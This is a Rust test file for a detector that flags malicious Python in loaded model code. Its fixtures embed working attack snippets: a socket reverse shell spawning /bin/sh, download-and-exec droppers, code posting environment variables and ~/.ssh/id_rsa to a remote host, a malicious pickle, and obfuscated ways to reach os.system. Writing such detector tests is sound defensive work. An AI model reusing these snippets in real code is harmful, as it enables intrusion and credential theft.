use super::*;

fn verdicts(source: &str, model_code: bool) -> Vec<Verdict> {
    judge(&analyse(source).expect(source), model_code)
}

#[test]
fn imports_are_resolved() {
    let a = analyse(
        "import subprocess as sp\nfrom os import system as s\nimport os.path\nsp.run(['id'])\ns('id')\nos.popen('id')\ngetattr(os, 'system')('x')\n",
    )
    .unwrap();
    let targets: Vec<&str> = a.calls.iter().map(|c| c.target.as_str()).collect();
    assert_eq!(
        targets,
        ["subprocess.run", "os.system", "os.popen", "os.system"]
    );
    assert_eq!(a.calls[1].line, 5);
    assert!(a.calls.iter().all(|c| c.scope.runs_on_load()));
}

#[test]
fn model_code_that_shells_out_is_malicious() {
    let source = "import os\nimport torch\nclass M(torch.nn.Module):\n    def forward(self, x):\n        os.system('echo hi')\n        return x\n";
    let v = verdicts(source, true);
    assert!(
        v.iter()
            .any(|v| v.clearly_malicious && v.evidence.contains("in `M.forward`")),
        "{v:?}"
    );
    // The same code in a script that nothing loads is not "clearly malicious".
    assert!(verdicts(source, false).is_empty());
}

#[test]
fn the_malicious_classes_are_found_in_any_script() {
    let decoded = "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n";
    assert!(verdicts(decoded, false)[0].what.contains("decoded"));
    let chars = "exec(''.join(map(chr, [112, 114])))\n";
    assert!(verdicts(chars, false)[0].clearly_malicious);
    let shell = "import socket, os, pty\ns = socket.socket()\ns.connect(('192.0.2.1', 4444))\nfor f in (0, 1, 2):\n    os.dup2(s.fileno(), f)\npty.spawn('/bin/sh')\n";
    assert!(
        verdicts(shell, false)
            .iter()
            .any(|v| v.what.contains("reverse shell"))
    );
    let dropper =
        "import urllib.request as u\ncode = u.urlopen('http://192.0.2.1/x').read()\nexec(code)\n";
    assert!(
        verdicts(dropper, false)
            .iter()
            .any(|v| v.what.contains("fetches"))
    );
    let thief = "import os, json, requests\nrequests.post('http://192.0.2.1', data=json.dumps(dict(os.environ)))\n";
    assert!(
        verdicts(thief, false)
            .iter()
            .any(|v| v.what.contains("credentials"))
    );
    let keys = "import requests\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('http://192.0.2.1', data=key)\n";
    assert!(
        verdicts(keys, false)
            .iter()
            .any(|v| v.what.contains("credentials"))
    );
}

#[test]
fn ordinary_code_is_not_flagged() {
    let modelling = r#"
import math
from typing import Optional
import torch
import torch.nn as nn
from .configuration_tiny import TinyConfig
from transformers import PreTrainedModel
from transformers.utils import is_flash_attn_2_available

if is_flash_attn_2_available():
    from flash_attn import flash_attn_func

class TinyModel(PreTrainedModel):
    config_class = TinyConfig
    def __init__(self, config):
        super().__init__(config)
        self.proj = nn.Linear(config.hidden_size, config.hidden_size)
        self.scale = 1 / math.sqrt(config.hidden_size)
    def forward(self, x: torch.Tensor, mask: Optional[torch.Tensor] = None):
        y = self.proj(x) * self.scale
        return torch.compile(lambda t: t)(y)
"#;
    let a = analyse(modelling).unwrap();
    assert_eq!(a.relative_imports, ["configuration_tiny"]);
    assert!(judge(&a, true).is_empty(), "{:?}", a.calls);
    let script = "import subprocess, argparse\nfrom pathlib import Path\nsubprocess.run(['nvidia-smi'])\nPath('out.txt').write_text('ok')\n";
    assert!(verdicts(script, false).is_empty());
}

#[test]
fn unparseable_and_huge_sources_are_errors() {
    assert!(analyse("def f(:\n").is_err());
    assert!(analyse(&"x".repeat(MAX_SOURCE + 1)).is_err());
    let deep = "(".repeat(10_000) + &")".repeat(10_000);
    let _ = analyse(&deep);
    // A chain of 300,000 additions is a tree 300,000 levels deep, which CPython does not
    // compile either: refused without overflowing the stack. Deep but compilable code is read.
    let chain = format!(
        "import os\nx = 1{}\nos.system('e')\n",
        " + 1".repeat(300_000)
    );
    assert!(analyse(&chain).unwrap_err().contains("levels deep"));
    let chain = format!("import os\nx = 1{}\nos.system('e')\n", " + 1".repeat(5_000));
    assert_eq!(analyse(&chain).unwrap().calls[0].target, "os.system");
    // Long literal tables are wide, not deep.
    let table = format!(
        "import os\nT = [{}]\nos.system('e')\n",
        "-1, ".repeat(100_000)
    );
    assert_eq!(analyse(&table).unwrap().calls[0].target, "os.system");
}

#[test]
fn names_built_from_pieces_are_resolved() {
    for source in [
        "m = __import__('o' + 's')\nclass M:\n    def forward(self):\n        m.system('echo quarantine-sample')\n",
        "import importlib\nrun = getattr(importlib.import_module('sub' + 'process'), 'Po' + 'pen')\nrun(['echo', 'quarantine-sample'])\n",
        "name = ''.join(['sys', 'tem'])\ngetattr(__import__('os'), name)('echo quarantine-sample')\n",
        "exec(\"__import__('os').system('echo quarantine-sample')\")\n",
        "import builtins\nvars(builtins)['ex' + 'ec'](\"import os; os.system('echo quarantine-sample')\")\n",
        "import os\nos.__dict__['metsys'[::-1]]('echo quarantine-sample')\n",
    ] {
        let a = analyse(source).unwrap();
        assert!(
            a.calls
                .iter()
                .any(|c| c.target == "os.system" || c.target == "subprocess.Popen"),
            "{source}: {:?}",
            a.calls
        );
        assert!(
            verdicts(source, true).iter().any(|v| v.clearly_malicious),
            "{source}"
        );
    }
}

#[test]
fn other_ways_to_run_code_count() {
    for (source, target) in [
        (
            "import sys\nsys.modules['o' + 's'].system('echo quarantine-sample')\n",
            "os.system",
        ),
        (
            "import posix\nposix.posix_spawn('/bin/echo', ['echo'], {})\n",
            "posix.posix_spawn",
        ),
        ("import timeit\ntimeit.timeit(CODE)\n", "timeit.timeit"),
        (
            "import asyncio\nasyncio.open_connection('192.0.2.1', 80)\n",
            "asyncio.open_connection",
        ),
        // Load-time code reached through local functions, a coroutine included.
        (
            "import asyncio\nasync def _f():\n    await asyncio.open_connection('192.0.2.1', 80)\n\
             def _g():\n    return _f()\nasyncio.run(_g())\n",
            "asyncio.open_connection",
        ),
        (
            "import pickle\npickle.loads(b'cposix\\nsystem\\n(tR.')\n",
            "pickle.loads",
        ),
        (
            "import _posixsubprocess\n_posixsubprocess.fork_exec(['sh'], [b'/bin/sh'], True)\n",
            "_posixsubprocess.fork_exec",
        ),
    ] {
        let a = analyse(source).unwrap();
        assert!(
            a.calls.iter().any(|c| c.target == target),
            "{source}: {:?}",
            a.calls
        );
        assert!(
            verdicts(source, true).iter().any(|v| v.clearly_malicious),
            "{source}"
        );
    }
}

/// A function that nothing calls while loading stays out of the load-time judgement, and so
/// does a pickle read from a file (remote code reading its vocabulary pickle exists).
#[test]
fn only_functions_reached_at_load_time_count() {
    let source = "import socket\ndef fetch():\n    socket.create_connection(('192.0.2.1', 80))\n";
    assert!(verdicts(source, true).iter().all(|v| !v.clearly_malicious));
    let called = format!("{source}fetch()\n");
    assert!(verdicts(&called, true).iter().any(|v| v.clearly_malicious));
    let vocabulary = "import pickle\nclass Tok:\n    def __init__(self, f):\n        self.vocab = pickle.loads(f.read())\n";
    let found = verdicts(vocabulary, true);
    assert!(
        !found.is_empty() && found.iter().all(|v| !v.clearly_malicious),
        "{found:?}"
    );
}

/// Download-and-run needs the fetched data to reach what runs: in one expression, through
/// names, through a file written or downloaded to, or through the file's own helpers. Utility
/// code that downloads in one function and starts an unrelated process in another (ultralytics'
/// `is_url` + `safe_download`'s `curl` of a URL into a file) is not it.
#[test]
fn download_and_run_needs_the_download_to_reach_the_run() {
    let fetches = |source: &str| {
        verdicts(source, false)
            .iter()
            .any(|v| v.what.contains("fetches"))
    };
    for attack in [
        "import requests\nexec(requests.get('http://192.0.2.7/x').text)\n",
        "import requests\ndef fetch(u):\n    r = requests.get(u)\n    return r.text\ndef main():\n    code = fetch('http://192.0.2.7/x')\n    exec(code)\n",
        "import subprocess, urllib.request\ndef run(cmd):\n    subprocess.run(['sh', '-c', cmd])\ndef go():\n    run(urllib.request.urlopen('http://192.0.2.7/x').read().decode())\n",
        "import subprocess, urllib.request\ndef go(path):\n    urllib.request.urlretrieve('http://192.0.2.7/x.sh', path)\n    subprocess.run(['sh', path])\n",
        "import os, requests\ndef go(p):\n    data = requests.get('http://192.0.2.7/x.sh').content\n    with open(p, 'wb') as fh:\n        fh.write(data)\n    os.system('sh ' + p)\n",
        "import subprocess, requests\ncode = requests.get('http://192.0.2.7/x.sh').text\nsubprocess.run(['bash'], input=code, text=True)\n",
        "import subprocess, os, requests\ndef go(p):\n    open(p, 'wb').write(requests.get('http://192.0.2.7/bin').content)\n    subprocess.run([p])\n",
        "import requests\nclass C:\n    def fetch(self):\n        return requests.get('http://192.0.2.7/x').text\n    def go(self):\n        exec(self.fetch())\n",
    ] {
        assert!(fetches(attack), "{attack}");
    }
    for ordinary in [
        "import subprocess, requests\ndef is_url(u):\n    return requests.head(u).ok\ndef download(url, f):\n    if is_url(url):\n        subprocess.run(['curl', '-L', url, '-o', f])\n",
        "import subprocess, httpx\nT = httpx.Timeout(10)\ndef check_uv():\n    return subprocess.run(['uv', '-V'], capture_output=True).returncode == 0\n",
        "import subprocess, requests\ndef info(u):\n    return requests.get(u).json()['url']\ndef get(u, f):\n    subprocess.run(['curl', '-L', info(u), '-o', f])\n",
    ] {
        assert!(!fetches(ordinary), "{ordinary}");
    }
}
